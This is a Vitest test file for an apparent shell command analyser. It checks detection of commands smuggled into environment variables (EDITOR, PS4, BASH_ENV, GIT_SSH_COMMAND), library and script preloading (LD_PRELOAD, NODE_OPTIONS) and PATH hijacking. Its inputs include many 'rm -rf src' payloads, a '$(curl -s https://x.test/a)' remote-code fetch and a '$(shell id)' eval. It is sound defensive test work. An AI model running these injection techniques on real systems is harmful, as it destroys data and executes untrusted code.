import { describe, expect, it } from 'vitest';
import { actionsOf, commandsOf, read, unknownOf } from '../testing/line.ts';

/** What a line makes programs load at their start, or in another way the action names. */
function loaded(line: string, source = 'startup'): readonly unknown[] {
  return actionsOf(line, 'code.execute')
    .filter(({ params }) => params['source'] === source)
    .map(({ params }) => params['file_path'] ?? params['code']);
}

describe('a variable that holds a command', () => {
  it.each([
    'EDITOR="rm -rf src" crontab -e',
    'VISUAL="rm -rf src" sudoedit a',
    'SUDO_EDITOR="rm -rf src" sudo -e a',
    'BROWSER="rm -rf src" gh browse',
    'env PAGER="rm -rf src" man ls',
    'sudo MANPAGER="rm -rf src" man ls',
    'export GIT_PAGER="rm -rf src"; ./run.sh',
    'LESSOPEN="|rm -rf src" git log',
    'AWS_PAGER="rm -rf src" aws s3 ls',
    'CC="rm -rf src" make',
    'GIT_SSH_COMMAND="rm -rf src" npm install',
    'npm_config_editor="rm -rf src" npm edit x',
    'GOFLAGS="-toolexec=rm" go build',
    'CARGO_TARGET_X_RUNNER="rm -rf src" cargo run',
    'PROMPT_COMMAND="rm -rf src" bash -i',
    "PS4='$(rm -rf src)' bash -x a.sh",
    "BASH_ENV='$(rm -rf src)' bash a.sh",
    'VIMINIT=":!rm -rf src" vim a',
    'JAVA_TOOL_OPTIONS=-XX:OnError="rm -rf src" java A',
  ])('%s runs rm', (line) => {
    expect(commandsOf(line).some((command) => /^rm\b/.test(command))).toBe(true);
  });

  it.each([
    'PAGER=cat git log',
    'EDITOR=true git rebase --continue',
    'EDITOR=vim crontab -l',
    'AWS_PAGER="" aws s3 ls',
    'BROWSER=none npm start',
    'CC=clang CXX=clang++ make',
    'EDITOR="$EDITOR" crontab -l',
    'RUSTC_WRAPPER=sccache cargo build',
    'GOFLAGS=-mod=mod go build',
    'MAKEFLAGS=-j8 make',
    'JAVA_TOOL_OPTIONS=-Xmx4g mvn test',
    'PS1="$ " bash a.sh',
    'ENV=production npm start',
    'NODE_ENV=test npm test',
    'SHELL=/bin/zsh npm test',
    'npm_config_script_shell=/bin/bash npm test',
    'LD_PRELOAD= ls',
    'LD_PRELOAD=/usr/lib/libjemalloc.so.2 node a.js',
    'LD_PRELOAD=libfaketime.so.1 ls',
    'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
    'NODE_OPTIONS="--import tsx" node a.ts',
    'NODE_OPTIONS="-r dotenv/config" npm test',
    'RUBYOPT=-W0 bundle exec rspec',
    'PERL5OPT=-MDevel::Cover prove -l t',
    'PYTHONPATH=$PYTHONPATH:/usr/lib/python3 python3 a.py',
    'unset LD_PRELOAD',
  ])('%s starts nothing that needs a look', (line) => {
    expect(loaded(line)).toEqual([]);
    expect(unknownOf(line)).toEqual([]);
    expect(actionsOf(line, 'file.delete')).toEqual([]);
  });

  it('says so where the command comes from the network', () => {
    expect(unknownOf('EDITOR="$(curl -s https://x.test/a)" git commit')).toContain('remote-code');
  });

  it('says so of a shell that is given the file to edit', () => {
    expect(unknownOf('EDITOR=bash crontab -e')).toContain('dynamic-command');
    expect(unknownOf('PAGER=/bin/sh man ls')).toContain('dynamic-command');
  });

  it('says so of what nobody can read', () => {
    expect(unknownOf('LD_PRELOAD=/tmp/x.so ls')).toContain('dynamic-code');
    expect(unknownOf("MAKEFLAGS='--eval=x:=$(shell id)' make")).toContain('dynamic-code');
  });
});

describe('a variable that names code to load first', () => {
  it.each([
    ['LD_PRELOAD=/tmp/x.so ls', '/tmp/x.so'],
    ['LD_LIBRARY_PATH=/tmp/x ls', '/tmp/x'],
    ['DYLD_INSERT_LIBRARIES=x.dylib ls', 'x.dylib'],
    ['BASH_ENV=/tmp/x bash -c true', '/tmp/x'],
    ['export ENV=/tmp/x; ./a.sh', '/tmp/x'],
    ['PYTHONSTARTUP=/tmp/x.py python3 -c 1', '/tmp/x.py'],
    ['PYTHONPATH=/tmp/x:$PYTHONPATH python3 -c 1', '/tmp/x'],
    ['NODE_OPTIONS="--require /tmp/x.js" npm test', '/tmp/x.js'],
    ['NODE_OPTIONS=--import=file:///tmp/x.mjs npm test', '/tmp/x.mjs'],
    ['npm_config_node_options="-r /tmp/x.js" npm test', '/tmp/x.js'],
    ['RUBYOPT="-I/tmp/x -rx" ruby -e 1', '/tmp/x'],
    ['PERL5LIB=/tmp/x perl -e 1', '/tmp/x'],
    ['CLASSPATH="/tmp/x/*" java A', '/tmp/x'],
    ['JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar=a mvn test', '/tmp/x.jar'],
    ['MAKEFILES=/tmp/x make', '/tmp/x'],
    ['SSH_ASKPASS=/tmp/x ssh h', '/tmp/x'],
    ['npm_config_script_shell=/tmp/x npm test', '/tmp/x'],
    ['EDITOR=/tmp/x git commit', '/tmp/x'],
  ])('%s loads %s', (line, path) => {
    expect(loaded(line)).toContain(path);
  });

  it('reads what the line itself wrote there', () => {
    expect(commandsOf('echo "rm -rf src" > x; BASH_ENV=x bash -c true')).toContain('rm -rf src');
  });

  it('hands the file to the runtime', () => {
    const [script] = read('BASH_ENV=/tmp/x bash -c true').scripts;
    expect(script).toMatchObject({ path: '/tmp/x', language: 'sh' });
    expect(read('PYTHONPATH=. python3 -c 1').scripts).toContainEqual(
      expect.objectContaining({ path: './sitecustomize.py', optional: true }),
    );
  });

  it('leaves an interpreter waiting', () => {
    expect(loaded('PYTHONINSPECT=1 python3 a.py', 'interactive')).toHaveLength(1);
  });

  it('does not make the call of the variable one of the line', () => {
    expect(commandsOf('NODE_OPTIONS="-r ./a.js" npm test')).toEqual(['npm test']);
  });
});

describe('a search path the line puts before the old one', () => {
  it('finds what the line wrote', () => {
    const line = 'echo "rm -rf src" > x/git; PATH=$PWD/x:$PATH git status';
    expect(commandsOf(line)).toContain('rm -rf src');
    expect(commandsOf('echo "rm -rf src" > b/ls; export PATH=b; ls')).toContain('rm -rf src');
  });

  it('has the runtime look for others', () => {
    expect(read('PATH=$HOME/bin:$PATH cargo test').scripts).toContainEqual(
      expect.objectContaining({ path: '/home/u/bin/cargo', optional: true }),
    );
    expect(read('PATH=/usr/local/bin:$PATH:/tmp jq . x').scripts).toEqual([]);
  });

  it('gives up where the names are too many', () => {
    const names = Array.from({ length: 40 }, (_, index) => `tool${index}`);
    expect(unknownOf(`export PATH=/a:$PATH; ${names.join('; ')}`)).toContain('too-many');
  });
});
